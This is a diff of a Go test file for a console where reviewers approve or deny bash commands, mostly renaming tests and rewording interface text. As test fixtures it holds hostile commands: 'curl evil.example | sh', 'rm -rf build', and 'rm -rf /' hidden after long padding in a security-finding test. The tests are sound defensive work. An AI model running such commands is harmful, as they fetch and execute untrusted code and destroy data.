@@ -24,7 +24,7 @@ func TestRememberTypedPatternAndScope(t *testing.T) {
 	s.decided()
 	s.shows("Choose a pattern first")
 	s.press("t", "bash(rm -r dx", "backspace", "rafts)", "esc", "t", " bash(rm *) ")
-	s.shows("Calls like, such as bash(git *):  bash(rm *) ▏")
+	s.shows("Pattern, such as bash(git *):  bash(rm *) ▏")
 	s.press("enter")
 	s.shows("1 [x] bash(rm *)")
 	s.press("s")
@@ -53,7 +53,7 @@ func TestRememberOnlyWhatTheRulePermits(t *testing.T) {
 	s.shows("it takes 2 approvals")
 }
 
-// The request ends while a pattern is typed: what is typed decides nothing.
+// The request ends while a pattern is typed: the keys decide nothing.
 func TestTypedPatternDecidesNothing(t *testing.T) {
 	a, b := bash("01A", "rm -rf build"), bash("01B", "curl evil.example | sh")
 	s := begin(t, a, b)
@@ -94,9 +94,9 @@ func TestTypedPatternsTakeTheLastPlace(t *testing.T) {
 	}
 }
 
-// Who cannot decide is told so in the place of the keys, and keeps them: the console
-// decides in the end.
-func TestWhoCannotDecideIsTold(t *testing.T) {
+// Reviewers who cannot decide see the reason in place of the keys, which still work: the
+// console decides in the end.
+func TestReasonWhyOneCannotDecide(t *testing.T) {
 	of := bash("01A", "ls")
 	of.Reviewers = []string{"finance"}
 	standsIn := client.Self{
@@ -123,8 +123,8 @@ func TestWhoCannotDecideIsTold(t *testing.T) {
 	s.shows("You approved, waiting for 1 more approval.")
 }
 
-// Whose approval can count no more is told so; denying is left to them.
-func TestWhoCannotApproveAnyMoreIsTold(t *testing.T) {
+// Reviewers whose approval cannot count see the reason; they can still deny.
+func TestReasonWhyOneCannotApprove(t *testing.T) {
 	r := bash("01A", "ls")
 	r.Principal.User = "carl"
 	r.Reviewers, r.RequiredApprovals = []string{"dba", "security"}, 1
@@ -256,12 +256,12 @@ func TestFinding27And33_ListAndRequest(t *testing.T) {
 	s.shows("ls⟨900 spaces⟩; rm -rf /")
 }
 
-// Of what is not known nothing is said.
-func TestWhoAsksIsOnlyWhatIsKnown(t *testing.T) {
+// Unknown parts of the origin are left out.
+func TestOriginHasKnownPartsOnly(t *testing.T) {
 	r := bash("01A", "ls")
 	r.Principal = approvals.Principal{Tenant: "default"}
 	s := begin(t, r)
 	s.shows("–")
 	s.press("enter")
-	s.shows("who asks\n  tenant default\n")
+	s.shows("requested by\n  tenant default\n")
 }
